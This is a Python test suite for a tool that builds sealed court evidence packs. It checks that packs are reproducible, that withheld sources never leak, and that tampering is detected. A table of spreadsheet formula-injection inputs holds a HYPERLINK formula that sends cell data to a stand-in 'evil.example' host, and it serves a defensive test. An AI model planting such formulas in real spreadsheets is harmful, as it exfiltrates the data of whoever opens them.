"""Court packs: whole, the same every time, without a withheld byte, and no change goes unseen."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import bagit as usual  # type: ignore[import-untyped]  # published without types
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from tests.publish.pack_world import HOSTILE, NAME, SECRETS, Packed, forge
from tests.repository import ROOT
from tests.stock import stock
from unburnt.cli.main import unburnt
from unburnt.core import canonical
from unburnt.core.errors import UsageError
from unburnt.crypto import note
from unburnt.crypto.checkpoint import cosign
from unburnt.crypto.passphrase import WEAK
from unburnt.crypto.signing import SigningKey
from unburnt.model import file_name, time_proof
from unburnt.model.entry import signer_name
from unburnt.model.recorded import Recorded
from unburnt.model.statement import FIELDS
from unburnt.publish import bagit, statement_table
from unburnt.publish.case import WITHHOLDABLE, at_most
from unburnt.publish.pack_words import WORDS
from unburnt.storage.journal import MAX_CHECKPOINT
from unburnt.storage.names import checkpoint_name, time_name
from unburnt.sync import cosigned
from unburnt.workflow import court_pack, people, prove, witness_policy
from unburnt.workflow.court_pack import Trust, Verdict, Wanted, check
from unburnt.workflow.custody import chain, record_event
from unburnt.workflow.origin import Origin, take_in_from
from unburnt.workflow.people import found
from unburnt.workflow.record import load_case, record_case
from unburnt.workflow.session import Claim


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Packed:
    return Packed(tmp_path_factory.mktemp("packs"))


@pytest.fixture(scope="module")
def pack(world: Packed) -> Path:
    return world.pack("first")


@pytest.fixture
def copy(pack: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(pack, tmp_path / "copy"))


ORIGINAL = "data/originals/E001-c7997093b697.txt"


def judged(folder: Path, **trust: Any) -> Verdict:
    return check(folder, Trust(**trust))


def codes(folder: Path, **trust: Any) -> set[str]:
    verdict = judged(folder, **trust)
    assert verdict.whole == (not verdict.problems)
    return {problem.code for problem in verdict.problems}


def everything(folder: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            yield path.relative_to(folder).as_posix(), path.read_bytes()


# --- a pack is whole ------------------------------------------------------------------------------


def test_a_pack_passes_its_check_and_that_of_the_usual_library(world: Packed, pack: Path) -> None:
    verdict = judged(pack, fingerprint=world.fingerprint, archive=world.session.archive)
    assert verdict.whole, verdict.problems
    assert verdict.statements == len(list((pack / "proofs").iterdir())) == 13
    assert verdict.originals == 1
    assert verdict.open == ["truth", "completeness"]
    usual.Bag(str(pack)).validate()


def test_without_anything_to_compare_with_the_check_says_so(pack: Path) -> None:
    assert "vouched" in judged(pack).open


@pytest.mark.parametrize(
    "handle",
    [
        "chain-car-threats",
        pytest.param("event-arrest", marks=pytest.mark.slow),
        pytest.param("act-nazran", marks=pytest.mark.slow),
        pytest.param("finding-attacks", marks=pytest.mark.slow),
    ],
)
def test_a_case_of_the_demonstration_passes(handle: str, tmp_path: Path) -> None:
    folder = ROOT / "demo" / "winter_2018"
    case = load_case((folder / "case.yaml").read_text(encoding="utf-8"), os.urandom)
    with found(tmp_path / "a", "h", "d", "p", ["cases", "sources", "staff"], cost=WEAK) as session:
        record_case(session, case, folder / "evidence")
        wanted = Wanted(case.entities[handle].id, language="ru")
        court_pack.pack(session, court_pack.prepare(session, wanted), tmp_path / "pack")
    assert judged(tmp_path / "pack").whole, judged(tmp_path / "pack").problems


def test_originals_are_copied_bit_for_bit(world: Packed, pack: Path) -> None:
    assert (pack / ORIGINAL).read_bytes() == b"what was seen\n"


def test_that_originals_left_is_in_their_chain(pack: Path) -> None:
    page = (pack / "data" / "custody.html").read_text()
    assert "exported it" in page
    assert "member 1" in page
    assert json.loads((pack / "data/custody/E001.jsonld").read_bytes())


def test_equal_input_gives_equal_bytes(world: Packed, tmp_path: Path) -> None:
    packs = []
    for name in ("one", "two"):
        with world.world.copy(tmp_path / name).open("office") as session:
            session.clock = lambda: "2026-01-09T14:00:00Z"
            plan = court_pack.prepare(session, Wanted(world.id("fire")))
            done = court_pack.pack(session, plan, tmp_path / f"pack-{name}")
        packs.append((dict(everything(tmp_path / f"pack-{name}")), done.fingerprint))
    assert packs[0] == packs[1]


def test_a_zip_of_a_pack_has_always_the_same_bytes(
    world: Packed, pack: Path, tmp_path: Path
) -> None:
    one, two = (Path(shutil.copytree(pack, tmp_path / n / "pack")) for n in ("1", "2"))
    first, second = (court_pack.to_zip(world.session, made) for made in (one, two))
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        archive.extractall(tmp_path / "out")
    assert judged(tmp_path / "out" / "pack").whole


def test_nothing_is_overwritten(world: Packed, pack: Path) -> None:
    with pytest.raises(UsageError):
        court_pack.pack(world.session, world.plan(), pack)


def test_whatever_ends_it_leaves_no_half_of_a_pack(world: Packed, tmp_path: Path) -> None:
    def stop(what: str, _count: int) -> None:
        if what == "originals":
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        court_pack.pack(world.session, world.plan(), tmp_path / "pack", stop)
    assert list(tmp_path.iterdir()) == []


# --- what it says ---------------------------------------------------------------------------------


def test_both_sides_stand_in_it(pack: Path) -> None:
    contradictions = html.unescape((pack / "data/contradictions.html").read_text())
    assert "22 January 2018" in contradictions
    assert "25 January 2018" in contradictions
    against = html.unescape((pack / "data/exculpatory.html").read_text())
    assert "a canister stood there" in against
    assert "1 statements speak against the case" in against


def test_an_empty_part_says_that_nothing_was_found_and_where_was_looked(world: Packed) -> None:
    folder = world.pack("bare", "other")
    page = (folder / "data/exculpatory.html").read_text()
    assert page.count("Nothing was found.") == 5
    assert re.search(r"Looked at: [0-9]+ statements about [0-9]+ entities", page)
    assert judged(folder).whole


def test_foreign_words_are_neither_markup_nor_formula(pack: Path) -> None:
    for path, data in everything(pack):
        if path.endswith(".html") and path != "verify.html":
            assert b"<script" not in data, path
            assert b"default-src 'none'" in data, path
    table = (pack / "data/statements.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    assert f"'{HOSTILE}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]


@pytest.mark.parametrize("phrase", WORDS)
def test_every_phrase_is_in_both_languages_with_the_same_holes(phrase: str) -> None:
    english, russian = WORDS[phrase]
    assert set(re.findall(r"{\w+}", english)) == set(re.findall(r"{\w+}", russian))
    assert russian.strip()


# --- what is withheld -----------------------------------------------------------------------------

CHOICES: dict[str, dict[str, Any]] = {
    "as it is": {},
    "sources withheld": {"withhold": ("source", "attribution")},
    "everything withheld that can be": {"withhold": tuple(sorted(WITHHOLDABLE))},
    "author and device shown": {"disclose": ("author", "device")},
}


@pytest.mark.parametrize("choice", CHOICES)
def test_nothing_withheld_occurs_in_any_file(world: Packed, choice: str, tmp_path: Path) -> None:
    folder = world.pack(f"withheld-{len(choice)}", **CHOICES[choice])
    plan = world.plan(**CHOICES[choice])
    shown = {record.id for record in plan.case.records}
    secrets = [secret.encode() for secret in SECRETS]
    secrets += [r.id.encode() for r in world.session.index.all() if r.id not in shown]
    if "source" in CHOICES[choice].get("withhold", ()):
        secrets += [world.id("neighbour").encode(), world.id("police").encode()]
    if "author" not in CHOICES[choice].get("disclose", ()):
        secrets.append(world.session.member.encode())
    for path, data in everything(folder):
        assert [secret for secret in secrets if secret in data] == [], path
    assert judged(folder).whole, judged(folder).problems


WITHHELD_OF_CUSTODY: dict[str, tuple[str, Callable[[Recorded], str]]] = {
    "on what the original rests": ("source", lambda file: file.statement.source),
    "when it was taken in": ("recorded_at", lambda file: file.statement.recorded_at),
}


@pytest.mark.parametrize("name", WITHHELD_OF_CUSTODY)
def test_custody_withholds_the_fields_that_are_withheld(name: str, tmp_path: Path) -> None:
    field, secret = WITHHELD_OF_CUSTODY[name]
    world = Packed(tmp_path)
    file = photograph(world)
    for withheld in ((), (field,)):
        folder = world.pack(f"without-{len(withheld)}", withhold=withheld)
        told = b"".join(data for path, data in everything(folder) if "custody" in path)
        assert (secret(file).encode() in told) is not bool(withheld)
        assert judged(folder).whole, judged(folder).problems


def test_what_people_typed_about_custody_is_told_only_when_asked(tmp_path: Path) -> None:
    world = Packed(tmp_path)
    file = photograph(world)
    typed = ("because Aset asked", "she waits outside")
    record_event(world.session, "viewed", file.statement.entity, purpose=typed[0], note=typed[1])
    assert world.plan().sensitive == ()
    folder = world.pack("untold")
    for path, data in everything(folder):
        assert [words for words in typed if words.encode() in data] == [], path
    assert world.plan(also=("purposes",)).sensitive == ("CustodyEvent.purpose",)
    folder = world.pack("told", also=("purposes",))
    told = b"".join(data for path, data in everything(folder) if "custody" in path)
    assert all(words.encode() in told for words in typed)
    assert judged(folder).whole, judged(folder).problems


def test_custody_knows_nothing_of_compartments_that_do_not_go_in(tmp_path: Path) -> None:
    world = Packed(tmp_path)
    file = photograph(world)
    before = {**file.statement.value["file"], "sha256": "ab" * 32}  # what it was before redaction
    session, sources = world.session, world.session.compartment("sources")
    claim = Claim(
        entity=file.statement.entity,
        schema="Evidence",
        property="file",
        value={"file": before},
        source=session.member,
        compartment=sources,
    )
    session.say([claim])
    world.world.wait(100 * 86_400)
    record_event(session, "viewed", [file.statement.entity], compartment=sources)
    seen = chain(session, file.statement.entity).links[-1]
    assert seen.kind == "viewed"
    world.world.wait(86_400)
    folder = world.pack("pack")
    for path, data in everything(folder):
        assert b"ab" * 32 not in data, path
        assert seen.when.encode() not in data, path


def photograph(world: Packed) -> Recorded:
    """Take in a photograph that the arson rests on, by hand of somebody; returns its file."""
    session, circle = world.session, world.session.compartment("cases")
    path = world.folder / "photo.jpg"
    path.write_bytes(b"a photograph")
    origin = Origin("Rowan of the third house", "handed-over", ("use-court",))
    _given, taken = take_in_from(session, [path], circle, origin)
    value = {"entity": taken.entities[0]}
    claim = Claim(
        entity=world.id("arson"),
        schema="Act",
        property="x-photograph",
        value=value,
        source=session.member,
        compartment=circle,
    )
    session.say([claim])
    (file,) = (r for r in session.index.of_entity(taken.entities[0]) if "file" in r.statement.value)
    return file


def test_the_map_of_redactions_has_numbers_and_kinds_only(pack: Path) -> None:
    told = json.loads((pack / "redactions.json").read_bytes())
    assert told["fields"] == ["author", "compartment", "device"]
    assert told["statements"] == [
        {"count": 1, "kind": "Act", "reason": "compartment", "speak_against": 1},
        {"count": 1, "kind": "Event", "reason": "compartment", "speak_against": 0},
        {"count": 1, "kind": "Person", "reason": "compartment", "speak_against": 0},
        {"count": 1, "kind": "Event", "reason": "sensitive", "speak_against": 0},
        {"count": 1, "kind": "Evidence", "reason": "sensitive", "speak_against": 0},
    ]


def test_what_lies_behind_withheld_sources_is_counted_in_size_classes(world: Packed) -> None:
    assert world.plan().case.behind.count == 0
    behind = world.plan(withhold=("source", "attribution")).case.behind
    left_out = {r.id for r in world.plan().case.records} - {
        r.id for r in world.plan(withhold=("source", "attribution")).case.records
    }
    assert left_out
    assert behind.count >= len(left_out)
    told = json.loads(
        (world.pack("behind", withhold=("source", "attribution")) / "redactions.json").read_bytes()
    )
    assert told["behind_sources"] == {"at_most": 16, "speak_against": 0}


def test_size_classes_are_few_and_never_below_the_count() -> None:
    assert [at_most(n) for n in (0, 1, 4, 5, 16, 17, 64, 65)] == [0, 4, 4, 16, 16, 64, 64, 256]


NAMES_OF_FILES = {
    "short": "Aset.jpg",
    "long": f"{'from Aset of the third house, ' * 6}9 Jan.jpg",
    "Cyrillic": "от Асет, 9 января.jpg",
    "that says it is a capture": "Aset-gave-this.wacz",
    "with an ending of somebody": "scan.rowan",
}


def test_neither_names_of_files_nor_their_lengths_are_in_a_pack_or_proof(tmp_path: Path) -> None:
    """Archives that differ in the name of one file give packs of the same sizes, to the byte."""
    shapes = set()
    for number, name in enumerate(NAMES_OF_FILES.values()):
        (tmp_path / str(number)).mkdir()
        world = Packed(tmp_path / str(number), name=name)
        folder = world.pack("pack")
        (file,) = (r for r in world.session.index.all() if "file" in r.statement.value)
        assert file_name.of(file.statement)["name"] == name
        made = prove.prove(world.session, [file.id])
        files = [*everything(folder), *((Path("proof"), data) for data in made.proofs.values())]
        words = [part.encode() for part in re.findall("Aset|Асет|9 Jan|января|scan.rowan", name)]
        for path, data in files:
            assert [w for w in words if w in data or w in str(path).encode()] == [], path
        shapes.add(
            tuple(
                sorted(
                    (re.sub("[0-9a-f]{64}", "", str(p)[len(str(folder)) :]), len(d))
                    for p, d in files
                )
            )
        )
        assert judged(folder).whole, judged(folder).problems
    assert len(shapes) == 1


def test_names_of_files_go_in_when_asked_and_are_listed(world: Packed) -> None:
    plan = world.plan(also=("file-names",))
    assert plan.sensitive == ("Evidence.fileName",)
    folder = world.pack("named", also=("file-names",))
    assert (folder / f"data/originals/E001-{NAME}").is_file()
    assert judged(folder).whole, judged(folder).problems


def test_a_file_of_an_older_archive_whose_name_cannot_be_withheld_is_withheld_whole(
    tmp_path: Path,
) -> None:
    world = Packed(tmp_path)
    session, circle = world.session, world.session.compartment("cases")
    (file,) = (r for r in session.index.all() if "file" in r.statement.value)
    old = structs.replace(
        file.statement, value={"file": file_name.of(file.statement)}, locator=None
    )
    session.append(circle, [old])
    assert session.index.files(circle)[1][1] == session.index.files(circle)[0][1]
    before = world.plan()
    assert before.case.withheld["sensitive", "Evidence"].count == 2
    assert judged(world.pack("withheld")).originals == 1
    made = prove.prove(session, [r.id for r in session.index.all() if r.statement == old])
    assert NAME.encode() not in b"".join(made.proofs.values())
    folder = world.pack("shown", also=("file-names",))
    assert judged(folder).whole, judged(folder).problems


def test_what_is_sensitive_goes_in_only_when_asked_and_is_listed(world: Packed) -> None:
    assert world.plan().sensitive == ()
    assert world.plan(sensitive=True).sensitive == (
        "CustodyEvent.purpose",
        "Event.workNotes",
        "Evidence.fileName",
    )


@pytest.mark.parametrize("label", ["sources", "staff"])
def test_sources_and_staff_never_go_in(world: Packed, label: str) -> None:
    with pytest.raises(UsageError):
        world.plan(compartments=(label,))


def test_what_is_for_sources_never_goes_in_whatever_its_label(tmp_path: Path) -> None:
    world = Packed(tmp_path)
    session, said = world.session, "what the giver saw"
    circle = people.add_compartment(session, "источники", "sources")
    claim = Claim(
        entity=world.id("fire"),
        schema="Event",
        property="remarks",
        value={"text": said},
        source=session.member,
        compartment=circle,
    )
    session.say([claim])
    with pytest.raises(UsageError):
        world.plan(compartments=("источники",))
    pack = world.pack("pack")
    assert [path for path, data in everything(pack) if said.encode() in data] == []
    people.set_purpose(session, circle, "none")  # one admin founded it: one is enough
    assert world.plan(compartments=("источники",)).case.records


@pytest.mark.parametrize("name", sorted(set(FIELDS) - WITHHOLDABLE))
def test_what_makes_a_statement_cannot_be_withheld(world: Packed, name: str) -> None:
    with pytest.raises(UsageError):
        world.plan(withhold=(name,))


# --- how to verify, as the page says --------------------------------------------------------------


@pytest.mark.stock
@pytest.mark.parametrize("language", ["en", "ru"])
def test_the_commands_of_the_page_do_what_it_says(pack: Path, language: str) -> None:
    stock("sha256sum")
    page = (pack / f"HOW-TO-VERIFY.{language}.html").read_text(encoding="utf-8")
    commands = [html.unescape(c) for c in re.findall("<pre><code>(.*?)</code></pre>", page, re.S)]
    assert len(commands) == 5
    outputs = []
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    for command in commands:
        ours = command.replace("python3", sys.executable)
        ours = ours.replace("unburnt ", f"{sys.executable} -m unburnt.cli.main ")
        done = subprocess.run(
            ["bash", "-ec", ours], cwd=pack, capture_output=True, text=True, env=environment
        )
        # Nothing to compare with was given to the two programs: both say OPEN.
        expected = 2 if "verify_proof" in command else 1 if "check-pack" in command else 0
        assert done.returncode == expected, done
        outputs.append(done.stdout)
    assert outputs[0] == ""
    assert len(set(outputs[2].split())) == 1


# --- what is changed is refused -------------------------------------------------------------------


def _flips(copy: Path, files: Iterable[tuple[str, bytes]], most: int) -> int:
    """Flip a bit in at most about so many bytes of each file, spread over it; returns how many."""
    tried = 0
    for path, data in files:
        for spot in range(len(data) // most // 2, len(data), len(data) // most + 1):
            changed = bytearray(data)
            changed[spot] ^= 1
            (copy / path).write_bytes(changed)
            verdict = judged(copy)
            assert not verdict.whole, (path, spot)
            found = {(problem.code, problem.path) for problem in verdict.problems}
            tag = {"seal.note": "seal", "tagmanifest-sha256.txt": "seal"}
            expected = tag.get(path, "bag-declaration" if path == "bagit.txt" else "bag-digest")
            assert (expected, "seal.note" if expected == "seal" else path) in found, (path, spot)
            tried += 1
        (copy / path).write_bytes(data)
    assert judged(copy).whole
    return tried


def test_a_flipped_byte_is_refused_with_the_right_reason(pack: Path, copy: Path) -> None:
    assert _flips(copy, everything(pack), 12) > 400


def test_every_flipped_byte_is_refused(world: Packed, tmp_path: Path) -> None:
    """Every byte but of pages and programs, by the digests; for the seal, that it is the seal."""
    least = world.pack("least", "other")
    copy = Path(shutil.copytree(least, tmp_path / "copy"))
    assert _flips(copy, [("seal.note", (least / "seal.note").read_bytes())], 4096) > 300
    one_proof, tried = min((least / "proofs").iterdir()).name, 0
    for path, data in everything(least):
        a_proof_more = path.startswith("proofs/") and not path.endswith(one_proof)
        if a_proof_more or path.endswith((".html", ".py", "seal.note")):
            continue
        for spot in range(len(data)):
            changed = bytearray(data)
            changed[spot] ^= 1
            (copy / path).write_bytes(changed)
            assert not bagit.check(copy).sound, (path, spot)
            tried += 1
        (copy / path).write_bytes(data)
    assert tried > 8_000
    assert judged(copy).whole


def test_a_removed_file_is_refused_whichever_it_is(pack: Path, copy: Path) -> None:
    for path, data in everything(pack):
        (copy / path).unlink()
        assert codes(copy) & {"bag-missing", "bag-declaration", "bag-no-manifest", "seal"}, path
        (copy / path).write_bytes(data)
    assert judged(copy).whole


@pytest.mark.parametrize(
    "path", ["data/more.txt", "data/originals/E002-x", "proofs/x.proof.json", "more", "fetch.txt"]
)
def test_an_added_file_is_refused_wherever_it_lies(copy: Path, path: str) -> None:
    (copy / path).write_bytes(b"more")
    assert codes(copy) & {"bag-unlisted", "bag-fetch"}
    forge(copy)
    assert codes(copy) & {"seal", "index", "bag-fetch"}


def test_an_added_folder_is_refused_even_when_it_is_empty(copy: Path) -> None:
    (copy / "data" / "the witness took this back").mkdir()
    assert codes(copy) == {"bag-unlisted"}


def test_two_files_that_changed_places_are_refused(copy: Path) -> None:
    names = sorted((copy / "proofs").iterdir())
    first, second = names[0].read_bytes(), names[1].read_bytes()
    names[0].write_bytes(second)
    names[1].write_bytes(first)
    assert "bag-digest" in codes(copy)
    forge(copy)
    assert {"proof", "seal"} <= codes(copy)


@pytest.mark.slow
def test_anybody_can_make_the_hashes_right_again_but_not_the_seal(pack: Path, copy: Path) -> None:
    for path, data in everything(pack):
        if path in ("seal.note", "tagmanifest-sha256.txt", "manifest-sha256.txt", "bag-info.txt"):
            continue
        (copy / path).write_bytes(data + b" ")
        forge(copy)
        assert "seal" in codes(copy) or "bag-declaration" in codes(copy), path
        (copy / path).write_bytes(data)


RESEALED = {
    "data/statements.csv": "table",
    ORIGINAL: "original-missing",
    "data/chronology.html": "index",
    "index.html": "index",
    "vkeys.txt": "keys",
    "pack.json": "pack",
    "proofs/": "proof",
    "checkpoints/": "checkpoint",
}


@pytest.mark.parametrize("path", RESEALED)
def test_even_its_maker_cannot_make_the_parts_disagree(
    world: Packed, copy: Path, path: str
) -> None:
    file = min((copy / path).iterdir()) if path.endswith("/") else copy / path
    data = bytearray(file.read_bytes())
    proven = len(data) // 2
    if path.endswith(".csv"):
        proven = data.index(b"alleged")
    if path == "index.html":
        proven = data.index(ORIGINAL.removeprefix("data/originals/").encode())
    data[proven] ^= 1
    file.write_bytes(data)
    world.seal_again(copy)
    assert RESEALED[path] in codes(copy)


@pytest.mark.parametrize(("name", "value"), [("recipient", "é"), ("fields", [[]])])
def test_a_front_page_that_is_none_is_refused_even_when_it_is_sealed(
    world: Packed, copy: Path, name: str, value: Any
) -> None:
    front = {**json.loads((copy / "pack.json").read_bytes()), name: value}
    (copy / "pack.json").write_bytes(canonical.encode(front))
    world.seal_again(copy)
    assert "pack" in codes(copy)


def test_a_statement_left_out_by_its_maker_shows_in_table_and_index(
    world: Packed, copy: Path
) -> None:
    min((copy / "proofs").iterdir()).unlink()
    world.seal_again(copy)
    assert {"table", "index"} <= codes(copy)


def test_the_proofs_of_another_pack_are_refused(
    copy: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("other")
    other = Packed(folder, "another").pack("pack")
    shutil.rmtree(copy / "proofs")
    shutil.copytree(other / "proofs", copy / "proofs")
    forge(copy)
    assert {"proof-archive", "table", "seal"} <= codes(copy)


def test_an_older_checkpoint_is_refused(world: Packed, tmp_path: Path) -> None:
    old = world.pack("old")
    new = world.pack("new")  # the export itself was recorded: the log has grown
    (old_file,), (new_file,) = (tuple((p / "checkpoints").iterdir()) for p in (old, new))
    assert old_file.name != new_file.name
    mixed = Path(shutil.copytree(new, tmp_path / "mixed"))
    (mixed / "checkpoints" / new_file.name).write_bytes(old_file.read_bytes())
    world.seal_again(mixed)
    assert "checkpoint" in codes(mixed)
    known = (new_file.read_text(),)
    assert codes(new, known=known) == set()
    assert "older" in codes(old, known=known)


def test_a_pack_that_is_not_the_one_you_were_told_of_is_refused(world: Packed, pack: Path) -> None:
    assert codes(pack, fingerprint="0" * 64) == {"other-pack"}
    assert codes(pack, archive="0" * 64) == {"other-archive"}
    assert codes(pack, devices=("a" * 26,)) == {"other-device"}
    assert codes(pack, devices=(world.session.device,)) == set()


def test_a_whole_pack_by_a_stranger_needs_something_to_compare_with(
    world: Packed, tmp_path: Path
) -> None:
    """Anyone can make keys and pack lies with them: only what you were told tells them apart."""
    forged = Packed(tmp_path, "a stranger").pack("pack")
    assert codes(forged) == set()
    assert codes(forged, devices=(world.session.device,)) == {"other-device"}


# --- strangers ------------------------------------------------------------------------------------


def test_what_strangers_signed_goes_in_and_is_checked(tmp_path: Path) -> None:
    world = Packed(tmp_path, "witnessed")
    session, witness = world.session, SigningKey.generate(world.world.random)
    size = session.journal.tip(session.device).size
    data = session.backend.get(checkpoint_name(session.device, size), MAX_CHECKPOINT)
    key = note.vkey("w.example", witness.public, note.COSIGNATURE)
    log = note.vkey(signer_name(session.archive, session.device), session.keys.signing.public)
    policy = f"log {log} https://hidden.example\nwitness w {key} https://hidden.example\nquorum w\n"
    witness_policy.set_policy(session, policy.encode())
    cosigned.keep(
        session.backend, session.device, cosign(note.parse(data), "w.example", witness, 9)
    )
    proof = time_proof.TimeProof(
        archive=session.archive,
        log=session.device,
        size=size,
        kind=time_proof.RFC3161,
        authority="somebody",
        by=session.device,
        asked="2026-01-09T14:00:00Z",
        checkpoint=data,
        request=b"question",
        reply=b"answer",
    )
    stamped = time_proof.sign(proof, session.keys.signing)
    session.backend.put(time_name(session.device, size, time_proof.digest(stamped)), stamped)
    world.say_more()
    folder = world.pack("pack")
    verdict = judged(folder)
    assert verdict.whole, verdict.problems
    assert {"times", "witnesses"} <= set(verdict.open)
    assert (folder / "checkpoints" / f"{session.device}-{size}").is_file()
    assert "hidden.example" not in (folder / "policy.txt").read_text()
    assert [p for p, d in everything(folder) if b"hidden.example" in d] == []
    device = session.device
    done = subprocess.run(
        [sys.executable, "verify_proof.py", "proofs", "--policy", "policy.txt", "--device", device],
        cwd=folder,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    (token,) = (folder / "times" / session.device).iterdir()
    token.write_bytes(token.read_bytes().replace(b"somebody", b"somebodz"))
    world.seal_again(folder)
    assert "time" in codes(folder)


JUDGED: dict[str, tuple[Callable[[Packed], dict[str, Any]], str]] = {
    "nothing to compare with": (lambda world: {}, "OPEN"),
    "only the archive's id": (lambda world: {"archive": world.session.archive}, "OPEN"),
    "the fingerprint": (lambda world: {"fingerprint": world.fingerprint}, "GREEN"),
    "the device": (lambda world: {"devices": (world.session.device,)}, "GREEN"),
    "another device": (lambda world: {"devices": ("a" * 26,)}, "REFUSED"),
    "another fingerprint": (lambda world: {"fingerprint": "0" * 64}, "REFUSED"),
}


@pytest.mark.parametrize("name", JUDGED)
def test_a_pack_is_green_only_against_what_the_reader_knows(tmp_path: Path, name: str) -> None:
    told, verdict = JUDGED[name]
    world = Packed(tmp_path)
    assert judged(world.pack("pack"), **told(world)).word == verdict


# --- on the command line --------------------------------------------------------------------------


def test_the_command_judges_a_pack(pack: Path) -> None:
    runner = CliRunner()
    told = runner.invoke(unburnt, ["check-pack", str(pack), "--json"])
    assert told.exit_code == 1  # nothing was compared with anything: as `check-proof` says it
    said = json.loads(told.stdout)
    assert (said["green"], said["verdict"], said["problems"]) == (False, "OPEN", [])
    vouched = runner.invoke(
        unburnt, ["check-pack", str(pack), "--fingerprint", said["fingerprint"], "--json"]
    )
    assert (vouched.exit_code, json.loads(vouched.stdout)["verdict"]) == (0, "GREEN")
    wrong = runner.invoke(unburnt, ["check-pack", str(pack), "--fingerprint", "0" * 64])
    assert wrong.exit_code == 1
    assert "its fingerprint is not the one you were told" in wrong.stdout
    assert runner.invoke(unburnt, ["check-pack", str(pack / "none")]).exit_code == 5


# --- the table ------------------------------------------------------------------------------------

CELLS = st.text(max_size=20).filter(lambda cell: "\0" not in cell)


@given(st.lists(st.fixed_dictionaries(dict.fromkeys(statement_table.COLUMNS, CELLS)), max_size=3))
def test_a_table_reads_back_as_it_was_written(rows: list[dict[str, str]]) -> None:
    assert statement_table.read(statement_table.spell(rows)) == rows


FORMULAS = {
    "at the beginning": "=1+1",
    "after a semicolon": 'burned;=HYPERLINK("http://evil.example/"&A1;"x")',
    "after a semicolon and quotes": 'a;""=1+1',
    "after a tab": "a\t@SUM(1)",
    "on a line of its own": "a\n-1+1",
    "behind an apostrophe": "a;'=1+1",
    "in a value that is no plain word": '{"text":";+1"}',
}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("cell", FORMULAS.values(), ids=FORMULAS.keys())
def test_no_cell_is_a_formula_whichever_separator_a_spreadsheet_takes(
    cell: str, separator: str
) -> None:
    row = {**dict.fromkeys(statement_table.COLUMNS, "x"), "in_words": cell}
    data = statement_table.spell([row])
    lines = csv.reader(io.StringIO(data[3:].decode(), newline=""), delimiter=separator)
    assert [cell for line in lines for cell in line if cell.startswith(tuple("=+-@"))] == []
    assert statement_table.read(data) == [row]


@given(st.text(alphabet=";\t\n\"'=x", max_size=12))
def test_what_makes_cells_harmless_is_undone_exactly(cell: str) -> None:
    row = {**dict.fromkeys(statement_table.COLUMNS, "x"), "in_words": cell}
    assert statement_table.read(statement_table.spell([row])) == [row]
